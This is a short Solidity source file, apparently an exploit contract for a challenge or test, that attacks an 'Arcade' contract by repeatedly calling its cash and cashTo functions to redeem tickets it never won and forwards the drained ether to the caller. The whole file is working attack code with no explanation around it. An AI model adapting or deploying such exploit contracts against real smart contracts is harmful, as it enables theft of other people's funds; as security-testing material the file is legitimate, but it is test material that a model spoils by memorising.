// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IArcade {
    function cash(uint32 tickets) external;

    function give(address to, uint32 tickets) external;

    function cashTo(address payable to, uint32 tickets) external;
}

/// Cashes tickets it never won.
contract NoTickets {
    function run(IArcade arcade, uint32 tickets, uint256 times) external {
        for (uint256 i = 0; i < times; i++) arcade.cash(tickets);
        payable(msg.sender).transfer(address(this).balance);
    }

    function runTo(IArcade arcade, uint32 tickets) external {
        arcade.cashTo(payable(msg.sender), tickets);
    }

    receive() external payable {}
}
